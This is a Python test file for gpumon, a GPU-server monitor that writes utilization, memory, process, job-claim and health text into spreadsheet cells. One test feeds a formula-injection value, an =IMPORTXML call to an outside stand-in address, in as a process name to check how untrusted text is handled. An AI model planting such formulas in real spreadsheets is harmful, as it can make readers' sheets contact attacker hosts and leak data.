"""What each of gpumon's cells says for a poll result."""

from __future__ import annotations

import datetime as dt
from zoneinfo import ZoneInfo

from sheetkit import gpu, off, on, process

from gpumon.poll.result import AGENT_STALE
from gpumon.sheet.cells import (
    format_job,
    format_memory,
    format_running,
    format_time,
    format_util,
    health,
    render,
    short_command,
)
from gpumon_agent.report import (
    GPU_ERROR,
    GPU_LOST,
    ClaimFileProblem,
    ClaimInfo,
    HealthWarning,
    Nvml,
)

SEOUL = ZoneInfo("Asia/Seoul")


def test_time_is_shown_in_the_sheet_time_zone_like_the_lab_sheet():
    assert format_time("2019-03-14T06:26:45Z", SEOUL) == "2019-03-14 15:26:45"
    assert format_time("2019-03-14T06:26:45Z", dt.timezone.utc) == "2019-03-14 06:26:45"


def test_on_server_cells():
    result = on("sigbsp", [gpu(0, util=37.4, used_gib=3.25), gpu(1)], ip="192.0.2.190")
    cells = render(result, SEOUL, {0, 1})
    assert cells.server == {
        "ip": "192.0.2.190",
        "status": "ON",
        "time": "2019-03-14 15:26:45",
        "health": "OK",
    }
    assert cells.gpus[0] == {"util": "37%", "memory": "3.2/11 GiB", "running": "", "job": ""}
    assert cells.gpus[1]["util"] == "0%"


def test_off_server_keeps_ip_and_shows_last_seen_time_not_now():
    result = off("mlbsp", last_seen_on="2019-03-14T06:00:00Z", polled_at="2019-03-14T09:00:00Z")
    cells = render(result, SEOUL, {0, 1, 2})
    assert cells.server == {
        "ip": None,  # leave the last known address
        "status": "OFF",
        "time": "2019-03-14 15:00:00",
        "health": "timed out at connect (3 s)",
    }
    assert cells.gpus[2] == {"util": "", "memory": "", "running": "", "job": ""}


def test_off_server_never_seen_leaves_the_time_cell_alone():
    assert render(off("mlbsp"), SEOUL, {0}).server["time"] is None


def test_util_prefers_the_window_mean_and_says_when_unknown():
    assert format_util(gpu(0, util=10.0)) == "10%"
    sample = gpu(0)
    sample.utilization_mean_pct, sample.utilization_pct = None, 55.0
    assert format_util(sample) == "55%"
    sample.utilization_pct = None
    assert format_util(sample) == "?"
    assert format_util(gpu(0, state=GPU_LOST)) == "lost"


def test_memory_is_used_over_total_in_gib():
    assert format_memory(gpu(0, used_gib=10.5)) == "10.5/11 GiB"
    unknown = gpu(0)
    unknown.memory_used_bytes = None
    assert format_memory(unknown) == "?"


def test_running_lists_user_and_program_per_gpu_grouping_repeats():
    procs = [
        process("lww", "/usr/bin/python3 -u train.py --lr 0.1"),
        process("niv", "jupyter-lab --no-browser"),
        process("lww", "python3 train.py"),
    ]
    assert format_running(procs) == "lww: python3 train.py ×2; niv: jupyter-lab"


def test_short_command_shows_the_script_of_interpreters():
    assert short_command("/opt/conda/bin/python3.10 -m torch.distributed.run x.py") == (
        "python3.10 torch.distributed.run"
    )
    assert short_command("./a.out --x") == "a.out"
    assert short_command('python "unterminated') == 'python "unterminated'
    assert short_command("") == "?"


def test_untrusted_text_is_passed_through_raw():
    evil = '=IMPORTXML("http://192.0.2.1/x","//a")'
    cells = render(on("a", [gpu(0, processes=[process(evil, evil)])]), SEOUL, {0})
    assert cells.gpus[0]["running"].startswith("=IMPORTXML(")


def test_job_shows_claims_and_their_progress():
    claims = [
        ClaimInfo(job="kws", user="lww", pid=1, started_at="2019-03-14T06:00:00Z",
                  progress={"epoch": 3, "epochs": 30, "loss": 0.123456}),
        ClaimInfo(job="eval", user="niv", pid=2, started_at="2019-03-14T06:00:00Z"),
    ]  # fmt: skip
    assert format_job(claims) == "kws (lww) epoch 3/30, loss 0.1235; eval (niv)"


def test_health_collects_everything_a_reader_should_know():
    gpus = [
        gpu(0, claimed_idle=True,
            claims=[ClaimInfo(job="kws", user="lww", pid=1, started_at="2019-03-14T06:00:00Z")]),
        gpu(1, unclaimed_use=True, processes=[process("niv", "python x.py")]),
        gpu(2, state=GPU_LOST),
        gpu(3, state=GPU_ERROR, error="Unknown Error"),
        gpu(4),
    ]  # fmt: skip
    result = on("sigbsp", gpus, reason_code=AGENT_STALE, reason="agent stale")
    result.report.warnings = [
        HealthWarning("load_high", "load 31 on 8 CPUs"),
        HealthWarning("gpu_lost", "GPU 2 lost (fell off the bus)", 2),
        HealthWarning("gpu_temperature_high", "at 91 °C", 4),
    ]
    result.report.claim_errors = [ClaimFileProblem("/run/gpumon/claims/x.json", "not JSON")]
    text = health(result, {0, 1, 2, 3, 5})
    assert text == (
        "agent stale; GPU 3: Unknown Error; load 31 on 8 CPUs; GPU 2 lost (fell off the bus); "
        "GPU 4: at 91 °C; GPU 0 claimed but idle (kws); GPU 1 used without a claim (niv); "
        "GPU 4 not in the sheet; GPU 5 not found; bad claim file x.json: not JSON"
    )


def test_health_of_a_gpu_less_machine_says_no_driver():
    result = on("cpubox")
    result.report.nvml = Nvml(available=False, error="libnvidia-ml.so.1 not found",
                              error_code="library_not_found")  # fmt: skip
    result.report.warnings = [HealthWarning("nvml_unavailable", "NVML unavailable: long text")]
    assert health(result, set()) == "no NVIDIA driver"
    cells = render(result, SEOUL, set())
    assert cells.absent == {"util": "", "memory": "", "running": "", "job": ""}


def test_health_is_ok_when_nothing_to_say_and_long_text_is_cut():
    assert health(on("a", [gpu(0)]), {0}) == "OK"
    many = on("a", [gpu(i, state=GPU_ERROR, error="x" * 50) for i in range(10)])
    text = health(many, set(range(10)))
    assert len(text) == 240 and text.endswith("…")


def test_gpu_row_the_agent_does_not_report_says_not_found():
    cells = render(on("a", [gpu(0)]), SEOUL, {0, 1})
    assert 1 not in cells.gpus
    assert cells.absent["util"] == "not found"


NOT_SUPPORTED = "nvmlDeviceGetComputeRunningProcesses_v3: Not Supported"


def test_unknown_processes_say_question_mark_in_running_and_why_in_health():
    unknown = gpu(0, processes=None, processes_error=NOT_SUPPORTED, unclaimed_use=None)
    result = on("geforce", [unknown, gpu(1)])
    result.report.warnings = [
        HealthWarning("gpu_processes_unknown", f"GPU 0 processes unknown: {NOT_SUPPORTED}", 0)
    ]
    cells = render(result, SEOUL, {0, 1})
    assert cells.gpus[0]["running"] == "?"  # never blank: blank reads "nobody"
    assert cells.gpus[1]["running"] == ""  # listed, none
    assert cells.server["health"] == f"GPU 0 processes unknown: {NOT_SUPPORTED}"  # said once
    assert "without a claim" not in cells.server["health"]


def test_unknown_processes_without_the_agents_warning_are_still_explained():
    # An agentless read (nvidia-smi) or any report that did not warn: Health says it anyway.
    agentless = gpu(0, processes=None, processes_error="nvidia-smi --query-compute-apps failed: x")
    text = health(on("bare", [agentless]), {0})
    assert text == "GPU 0 processes unknown: nvidia-smi --query-compute-apps failed: x"
    assert health(on("odd", [gpu(0, processes=None)]), {0}) == (
        "GPU 0 processes unknown: not reported"
    )


def test_a_process_query_failure_already_in_the_gpu_error_is_said_once():
    failing = gpu(
        0,
        state=GPU_ERROR,
        error=f"nvmlDeviceGetTemperature: Unknown Error; {NOT_SUPPORTED}",
        processes=None,
        processes_error=NOT_SUPPORTED,
    )
    result = on("a", [failing])
    result.report.warnings = [HealthWarning("gpu_error", f"GPU 0: {failing.error}", 0)]
    assert health(result, {0}) == f"GPU 0: {failing.error}"
    assert render(result, SEOUL, {0}).gpus[0]["running"] == "?"


def test_some_processes_listed_while_a_query_failed_show_them_and_a_question_mark():
    partial = gpu(0, processes=[process("lww", "python train.py")], processes_error="graphics: x")
    cells = render(on("a", [partial]), SEOUL, {0})
    assert cells.gpus[0]["running"] == "lww: python train.py; ?"
    assert cells.server["health"] == "GPU 0 processes partly unknown: graphics: x"


def test_a_hostile_report_claiming_unclaimed_use_with_unknown_processes_does_not_crash():
    odd = gpu(0, processes=None, processes_error="x", unclaimed_use=True)
    assert "GPU 0 used without a claim (?)" in health(on("a", [odd]), {0})


def cpu_claim(user: str, job: str) -> ClaimInfo:
    return ClaimInfo(job=job, user=user, pid=7, started_at="2019-03-14T06:00:00Z")


def test_cpu_only_jobs_show_in_the_name_rows_job_cell_like_the_seeds_niv_using_cpu():
    result = on("sigbsp", [gpu(0), gpu(1)])
    result.report.gpus[0].claims = [cpu_claim("niv", "bert")]
    result.report.cpu_claims = [
        cpu_claim("lww", "kws ch32"),
        cpu_claim("niv", "prep"),
        cpu_claim("lww", "kws ch32"),
    ]
    cells = render(result, SEOUL, {0, 1})
    assert cells.cpu_jobs == "lww: kws ch32 (CPU) ×2; niv: prep (CPU)"
    assert cells.gpu_value(0, "job", name_row=True) == (
        "bert (niv); lww: kws ch32 (CPU) ×2; niv: prep (CPU)"
    )
    assert cells.gpu_value(0, "job") == "bert (niv)"  # other rows: their GPU's claims only
    assert cells.gpu_value(1, "job", name_row=True) == "lww: kws ch32 (CPU) ×2; niv: prep (CPU)"
    assert cells.gpu_value(1, "job") == ""


def test_many_or_long_cpu_jobs_are_cut_like_other_cells():
    result = on("hcpbsp", [gpu(0)])
    result.report.cpu_claims = [cpu_claim(f"user{i}", "x" * 300) for i in range(128)]
    result.report.gpus[0].claims = [cpu_claim("niv", "y" * 200)]
    cells = render(result, SEOUL, {0})
    value = cells.gpu_value(0, "job", name_row=True)
    assert len(value) == 120 and value.endswith("…")


def test_an_off_server_shows_no_cpu_jobs():
    result = off("mlbsp", last_seen_on="2019-03-14T06:00:00Z")
    assert render(result, SEOUL, {0}).gpu_value(0, "job", name_row=True) == ""
